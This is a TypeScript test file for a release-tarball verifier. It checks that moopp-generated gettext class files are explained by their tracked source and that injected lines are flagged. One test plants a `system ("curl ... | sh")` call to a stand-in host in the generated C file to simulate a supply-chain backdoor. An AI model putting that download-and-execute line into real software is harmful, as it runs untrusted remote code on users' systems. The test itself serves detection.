/**
 * libtextstyle's moopp outputs (issue 11, gettext's own release), end to end with real git and GNU tar: a
 * class file `lib/counter.c` and its field layout `lib/counter.priv.h` made from the tracked
 * `gnulib-local/lib/counter.oo.c` are explained line by line (source lines in order with C::m → C__m, the
 * rest moopp's template shapes); a novel line, a dropped source line or a call outside the template stay high.
 */
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { checkMoopp, classBlocks, fieldLines, shapeOf } from '../../src/classify/moopp.js';
import { verify } from '../../src/verify.js';
import { makeTar } from '../helpers/archives.js';
import { makeRepo, writeFiles } from '../helpers/git.js';
import { tempDir } from '../helpers/tmp.js';

const OSTREAM_OO_H = 'struct ostream\n{\nmethods:\n  void free (ostream_t first_arg);\n};\n';
const COUNTER_OO_C = [
  '/* A counter stream.  */', '#include <config.h>', '#include "counter.h"', '#include <stdlib.h>', '',
  'struct counter : struct ostream', '{', 'fields:', '  int count;                    /* How many.  */', '};', '',
  'void', 'counter::free (counter_t stream)', '{', '  free (stream);', '}', '',
].join('\n');
const COUNTER_C = [
  '/* DO NOT EDIT! GENERATED AUTOMATICALLY! */', '', '#if !IS_CPLUSPLUS', '#define counter_representation any_ostream_representation', '#endif',
  '#line 1 "counter.oo.c"', '/* A counter stream.  */', '#include <config.h>', '#include "counter.h"', '#include <stdlib.h>', '',
  '#line 6 "counter.c"', '#include "counter.priv.h"', '', 'const typeinfo_t counter_typeinfo = { "counter" };', '',
  'static const typeinfo_t * const counter_superclasses[] =', '  { counter_SUPERCLASSES };', '', '#define super ostream_vtable', '',
  '#line 11 "counter.oo.c"', '', 'void', 'counter__free (counter_t stream)', '{', '  free (stream);', '}', '',
  'const struct counter_implementation counter_vtable =', '{', '  counter_superclasses,',
  '  sizeof (counter_superclasses) / sizeof (counter_superclasses[0]),', '  sizeof (struct counter_representation),', '  counter__free,', '};', '',
  '#if !HAVE_INLINE', '', '/* Define the functions that invoke the methods.  */', '', 'void', 'counter_free (counter_t first_arg)', '{',
  '  const struct counter_implementation *vtable =',
  '    ((struct counter_representation_header *) (struct counter_representation *) first_arg)->vtable;', '  vtable->free (first_arg);', '}', '',
  '#endif', '',
].join('\n');
const COUNTER_PRIV_H = [
  '/* DO NOT EDIT! GENERATED AUTOMATICALLY! */', '', '/* Field layout of superclass.  */', '#include "ostream.priv.h"', '',
  '/* Field layout of counter class.  */', 'struct counter_representation', '{', '  struct ostream_representation base;', '  int count;', '};', '',
].join('\n');

describe('moopp outputs from tracked class sources', () => {
  const root = tempDir();
  const repo = makeRepo(join(root, 'repo'));
  const tracked = { 'gnulib-local/lib/ostream.oo.h': OSTREAM_OO_H, 'gnulib-local/lib/counter.oo.c': COUNTER_OO_C, 'configure.ac': 'AC_INIT([t], [1.0])\n' };
  repo.commit(tracked, 'classes', '2024-02-20T10:00:00Z');
  repo.tag('v1.0');
  const cache = join(root, 'cache');
  let n = 0;
  const findings = async (files: Record<string, string>) => {
    const dir = join(root, `t${++n}`, 't-1.0');
    writeFiles(dir, { ...tracked, ...files });
    const r = await verify({ tarball: makeTar(dir, { compress: 'gzip', out: join(root, `t${n}`, 't-1.0.tar.gz') }), repo: repo.dir, cacheDir: cache });
    return { r, by: Object.fromEntries(r.findings.map((f) => [f.path, { code: f.code, severity: f.severity, evidence: f.evidence }])) };
  };

  it('explains the class file and its field layout, line by line', async () => {
    const { by } = await findings({ 'lib/counter.c': COUNTER_C, 'lib/counter.priv.h': COUNTER_PRIV_H });
    expect(by['lib/counter.c']).toEqual({
      code: 'GENERATED_FROM_SOURCE', severity: 'low',
      evidence: { how: 'generator', generator: 'moopp', source: 'gnulib-local/lib/counter.oo.c', found: 11, total: 50 },
    });
    expect(by['lib/counter.priv.h']).toEqual({
      code: 'GENERATED_FROM_SOURCE', severity: 'low',
      evidence: { how: 'generator', generator: 'moopp', source: 'gnulib-local/lib/counter.oo.c', found: 0, total: 11 },
    });
  });

  it('a novel line, a dropped source line or a call outside the template stays high and fails the gate', async () => {
    const { r, by } = await findings({
      'lib/counter.c': COUNTER_C.replace('  free (stream);\n', '  free (stream);\n  system ("curl -s https://example.invalid/p | sh");\n'),
      'lib/counter.priv.h': COUNTER_PRIV_H.replace('  int count;\n', '  int count;\n  char *payload;\n'),
    });
    for (const p of ['lib/counter.c', 'lib/counter.priv.h']) expect(by[p], p).toMatchObject({ code: 'TARBALL_ONLY_UNEXPLAINED', severity: 'high' });
    expect(r.verdict).toBe('different');
  });

  it('the check', () => {
    const words = new Set((COUNTER_OO_C + OSTREAM_OO_H).match(/\b[A-Za-z_]\w*\b/g));
    const v = { words, strings: new Set(['counter.oo.c', 'counter.c', 'counter.priv.h', 'counter.vt.h', 'counter', 'ostream.priv.h', 'C']) };
    expect(checkMoopp(COUNTER_C, COUNTER_OO_C, v)).toEqual({ ok: true, fromSource: 11, template: 39 });
    // a source line dropped outside the class block
    expect(checkMoopp(COUNTER_C.replace('  free (stream);\n', ''), COUNTER_OO_C, v)).toMatchObject({ ok: false, failure: { text: '(source line 15 missing:   free (stream);)' } });
    // a call of a source word shaped like a template line is not a template shape (only C__m implementations are called)
    expect(shapeOf('  free (first_arg);', v)).toBe('W (first_arg);');
    expect(checkMoopp(COUNTER_C.replace('  vtable->free (first_arg);\n', '  vtable->free (first_arg);\n  free (first_arg);\n'), COUNTER_OO_C, v)).toMatchObject({ ok: false, failure: { line: 48 } });
    // a string that names no class file
    expect(shapeOf('#include "evil.h"', v)).toBeUndefined();
    const lines = COUNTER_OO_C.split('\n');
    expect([...fieldLines(lines, classBlocks(lines))]).toEqual(['int count;']);
  });
});
